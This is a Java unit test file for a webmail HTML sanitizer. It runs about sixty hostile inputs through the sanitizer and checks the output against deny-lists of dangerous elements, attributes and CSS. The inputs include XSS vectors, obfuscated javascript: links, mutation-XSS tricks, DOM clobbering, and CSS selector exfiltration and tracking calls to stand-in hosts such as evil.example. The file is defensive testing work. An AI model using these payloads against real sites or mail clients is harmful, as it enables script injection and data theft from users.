// SPDX-License-Identifier: Apache-2.0
package org.postern.webmail;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The sanitizer against hostile HTML (HOSTILE.md A48-A52, A58, A59). Every row goes through one oracle:
 * the output, parsed again as a browser would, has no script, no event handler, no element or URL
 * scheme outside the allow-list, nothing remote while remote content is off, and sanitizing it again
 * changes nothing. Some rows also say what must survive, so the oracle cannot pass by emptying all.
 */
class HtmlSanitizerTest {
    private static final Set<String> ALLOWED_SCHEMES = Set.of("http", "https", "mailto", "data");
    private final HtmlSanitizer sanitizer = new HtmlSanitizer();
    private static final Map<String, String> IMAGES = Map.of("logo@x", "data:image/png;base64,iVBORw0KGgo=");

    static Stream<Arguments> hostile() {
        return Stream.of(
                row("script element", "<p>hi</p><script>alert(1)</script>", "hi"),
                row("img onerror", "<img src=x onerror=alert(1)>ok", "ok"),
                row("body onload", "<body onload=alert(1)>text</body>", "text"),
                row("javascript link", "<a href=\"javascript:alert(1)\">x</a>", ">x</a>"),
                row("tab in scheme", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", ">x</a>"),
                row("newline in scheme", "<a href=\"java\nscript:alert(1)\">x</a>", ">x</a>"),
                row("entity scheme", "<a href=\"&#106;avascript:alert(1)\">x</a>", ">x</a>"),
                row("upper scheme", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", ">x</a>"),
                row("leading space scheme", "<a href=\" javascript:alert(1)\">x</a>", ">x</a>"),
                row("vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>", ">x</a>"),
                row("data link", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", ">x</a>"),
                row("iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>after", "after"),
                row("object", "<object data=\"javascript:alert(1)\"></object><embed src=x.swf>", ""),
                row("form", "<form action=\"https://evil.example/\"><input name=p><button>Go</button></form>", "Go"),
                row("meta refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">x", "x"),
                row("base", "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>", ""),
                row("link import", "<link rel=import href=\"https://evil.example/x\"><link rel=stylesheet href=\"https://t.example/s.css\">", ""),
                row("svg animate href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>click</text></a></svg>", "click"),
                row("svg set", "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>", ""),
                row("svg trailing space", "<svg><animate attributeName=\"href \" values=\"javascript:alert(1)\"/></svg>", ""),
                row("svg script", "<svg><script>alert(1)</script></svg>", ""),
                row("mxss svg style", "<svg><style><img src=x onerror=alert(1)></style></svg>", ""),
                row("mxss svg style escaped", "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>", ""),
                row("mxss math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
                row("mxss noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", ""),
                row("mxss body title", "<body title=\"bgcolor=foo\" name=\"bar style=animation-name:progress-bar-stripes "
                        + "onanimationstart=alert(origin) foo=bar\">Foo</body>", "Foo"),
                row("mxss template", "<template><img src=x onerror=alert(1)></template>t", "t"),
                row("mxss textarea", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", ""),
                row("mxss xmp", "<xmp><img src=x onerror=alert(1)></xmp>", ""),
                row("style breakout", "<style>p{color:red}</style><p>red</p>", "red"),
                row("css url tracker", "<div style=\"background:url(https://tracker.example/x)\">t</div>", "t"),
                row("css import", "<style>@import url(https://tracker.example/s.css); p{color:red}</style>", ""),
                row("css import string", "<style>@import 'https://tracker.example/s.css';</style>", ""),
                row("css escape url", "<div style=\"background:u\\72l(https://t.example/x)\">e</div>", "e"),
                row("css image-set", "<div style=\"background-image:image-set('https://t.example/x' 1x)\">i</div>", "i"),
                row("css expression", "<div style=\"width:expression(alert(1))\">w</div>", "w"),
                row("css behavior", "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#x)\">b</div>", "b"),
                row("css fixed overlay", "<div style=\"position:fixed;top:0;left:0;width:100%\">o</div>", "width"),
                row("css exfil selector", "<style>input[value^=a]{background:url(https://t.example/a)}</style>", ""),
                row("css font-face", "<style>@font-face{font-family:x;src:url(https://t.example/f.woff)}</style>", ""),
                row("remote img", "<img src=\"https://tracker.example/p.gif\" alt=pixel>", "pixel"),
                row("srcset", "<img srcset=\"https://t.example/a.png 1x\" src=\"cid:logo@x\">", "data:image/png"),
                row("picture source", "<picture><source srcset=\"https://t.example/a.png\"><img alt=p></picture>", ""),
                row("video poster", "<video poster=\"https://t.example/p.png\"></video><audio src=https://t.example/a.mp3>", ""),
                row("svg image", "<svg><image href=\"https://t.example/i.png\"/><filter><feImage href=\"https://t.example/f.png\"/></filter></svg>", ""),
                row("input image", "<input type=image src=\"https://t.example/i.png\">", ""),
                row("background attr", "<table background=\"https://t.example/b.png\"><tr><td background=\"https://t.example/c\">c</td></tr></table>", "c"),
                row("prefetch", "<link rel=prefetch href=\"https://t.example/\"><link rel=dns-prefetch href=\"//t.example\">", ""),
                row("data img from mail", "<img src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">", ""),
                row("cid image", "<img src=\"cid:logo@x\" alt=logo>", "data:image/png;base64,iVBORw0KGgo="),
                row("cid unknown", "<img src=\"cid:nope\" alt=n>", "alt=\"n\""),
                row("link shows target", "<a href=\"https://real.example/\">https://bank.example/</a>", "title=\"https://real.example/\""),
                row("dom clobber", "<form id=x><input name=attributes></form><img name=getElementById>", ""),
                row("event attr case", "<div OnClick=alert(1) oNmOuSeOvEr=alert(1)>d</div>", "d"),
                row("unicode whitespace scheme", "<a href=\"\u2028javascript:alert(1)\">x</a>", ">x</a>"),
                row("nested iframes", "<iframe src=\"https://evil.example/\"><iframe src=javascript:alert(1)></iframe></iframe>", ""),
                row("frameset", "<frameset><frame src=\"javascript:alert(1)\"></frameset>", ""),
                row("comment conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->c", "c"),
                row("attribute breakout", "<p title='\"><script>alert(1)</script>'>q</p>", "q"),
                row("plaintext", "<plaintext><script>alert(1)</script>", ""));
    }

    private static Arguments row(String name, String html, String mustContain) {
        return Arguments.of(name, html, mustContain);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void hostileInputIsDefused(String name, String html, String mustContain) {
        String out = sanitizer.sanitize(html, false, IMAGES).html();
        assertSafe(out, false);
        assertThat(out).contains(mustContain);
        // A50: the output is a fixed point; a second pass must not see anything new (except that
        // data: images, which only the sanitizer itself may produce, are not accepted from input).
        if (!out.contains("data:")) assertThat(sanitizer.sanitize(out, false, IMAGES).html()).isEqualTo(out);
    }

    @ParameterizedTest(name = "{0} (remote allowed)")
    @MethodSource("hostile")
    void hostileInputIsDefusedWithRemoteAllowed(String name, String html, String mustContain) {
        String out = sanitizer.sanitize(html, true, IMAGES).html();
        assertSafe(out, true);
    }

    static void assertSafe(String html, boolean remoteAllowed) {
        Document d = Jsoup.parse("<!DOCTYPE html><html><head></head><body>" + html + "</body></html>");
        for (Element e : d.body().getAllElements()) {
            assertThat(e.normalName()).as(html).isNotIn("script", "iframe", "object", "embed", "form", "input", "base", "meta",
                    "link", "svg", "math", "frame", "frameset", "video", "audio", "source", "picture", "template", "noscript",
                    "textarea", "button", "image", "animate", "set");
            for (Attribute a : e.attributes()) {
                String k = a.getKey().toLowerCase(Locale.ROOT);
                String v = a.getValue().strip().toLowerCase(Locale.ROOT);
                assertThat(k).as(html).doesNotStartWith("on").isNotIn("srcset", "background", "srcdoc", "formaction", "poster",
                        "xlink:href", "data", "action");
                if (k.equals("href") || k.equals("src")) {
                    int colon = v.indexOf(':');
                    assertThat(colon).as(html).isPositive();
                    assertThat(ALLOWED_SCHEMES).as(html).contains(v.substring(0, colon));
                    if (k.equals("src") && v.startsWith("data:")) assertThat(v).startsWith("data:image/png;base64,");
                    if (k.equals("href")) assertThat(v).doesNotStartWith("data:");
                    if (!remoteAllowed && k.equals("src")) assertThat(v).doesNotStartWith("http");
                }
                if (k.equals("style")) assertCssSafe(v, remoteAllowed, html);
            }
            if (e.normalName().equals("style")) assertCssSafe(e.data().toLowerCase(Locale.ROOT), remoteAllowed, html);
            if (e.normalName().equals("a") && e.hasAttr("href")) {
                assertThat(e.attr("rel")).isEqualTo("noopener noreferrer");
                assertThat(e.attr("target")).isEqualTo("_blank");
                assertThat(e.attr("title")).isEqualTo(e.attr("href"));
            }
        }
    }

    private static void assertCssSafe(String css, boolean remoteAllowed, String input) {
        assertThat(css).as(input).doesNotContain("expression", "javascript:", "-moz-binding", "behavior", "@import", "\\", "<",
                "image-set");
        if (!remoteAllowed) assertThat(css).as(input).doesNotContain("url(");
    }

    @Test
    void remoteContentIsReportedAndKeptOnlyWhenAllowed() {
        String html = "<p>Hi</p><img src=\"https://img.example/a.png\"><div style=\"background:url('https://img.example/b.png')\">x</div>";
        HtmlSanitizer.Result blocked = sanitizer.sanitize(html, false, Map.of());
        assertThat(blocked.remoteFound()).isTrue();
        assertThat(blocked.html()).doesNotContain("img.example");
        HtmlSanitizer.Result allowed = sanitizer.sanitize(html, true, Map.of());
        assertThat(allowed.html()).contains("src=\"https://img.example/a.png\"").contains("url('https://img.example/b.png')");
        assertThat(sanitizer.sanitize("<p>plain</p>", false, Map.of()).remoteFound()).isFalse();
    }

    @Test
    void theMessagesBaseNeverResolvesRelativeUrls() {
        String out = sanitizer.sanitize("<base href=\"https://evil.example/\"><img src=x><a href=\"/y\">r</a>", true, Map.of()).html();
        assertThat(out).doesNotContain("evil.example").contains(">r</a>");
    }

    @Test
    void ordinaryNewsletterMarkupSurvives() {
        String html = "<html><head><style>.x{color:#333;font-size:14px}</style></head><body><table width=\"600\" cellpadding=\"4\">"
                + "<tr><td class=\"x\" style=\"color: red; padding: 4px\"><b>Sale</b> <a href=\"https://shop.example/\">Shop</a>"
                + "</td></tr></table></body></html>";
        String out = sanitizer.sanitize(html, false, Map.of()).html();
        assertThat(out).contains("<style>.x{color:#333;font-size:14px}</style>", "width=\"600\"", "cellpadding=\"4\"",
                "style=\"color: red; padding: 4px;\"", "<b>Sale</b>", "href=\"https://shop.example/\"", "class=\"x\"");
    }

    @Test
    void deepNestingIsFlattenedAndFast() {
        String html = "<div>".repeat(100_000) + "deep" + "</div>".repeat(100_000);
        long start = System.nanoTime();
        String out = sanitizer.sanitize(html, false, Map.of()).html();
        assertThat((System.nanoTime() - start) / 1_000_000).isLessThan(5000);
        assertThat(out).contains("deep");
        int depth = 0;
        for (Element e = Jsoup.parse(out).selectFirst("div"); e != null; e = e.selectFirst("> div")) depth++;
        assertThat(depth).isLessThanOrEqualTo(HtmlSanitizer.MAX_DEPTH);
    }

    @Test
    void hugeInputIsCut() {
        String html = "<p>" + "a".repeat(HtmlSanitizer.MAX_INPUT_CHARS + 1000) + "</p>";
        assertThat(sanitizer.sanitize(html, false, Map.of()).html().length()).isLessThanOrEqualTo(HtmlSanitizer.MAX_INPUT_CHARS + 16);
    }

    @Test
    void plainTextIsEscapedBeforeLinking() {
        for (String text : List.of("[1]: javascript:alert(1)", "http://x/\"onmouseover=\"alert(1)", "<http://a>\"<script>alert(1)</script>",
                "see https://example.com/a?b=1&c=2.", "mailto:bob@example.com")) {
            String out = MessageRenderer.plain(text).outerHtml();
            assertSafe(out, false);
            assertThat(Jsoup.parse(out).text()).isEqualTo(text);
        }
        assertThat(MessageRenderer.plain("see https://example.com/a?b=1&c=2.").select("a").attr("href"))
                .isEqualTo("https://example.com/a?b=1&c=2");
        assertThat(MessageRenderer.plain("[1]: javascript:alert(1)").select("a")).isEmpty();
    }
}
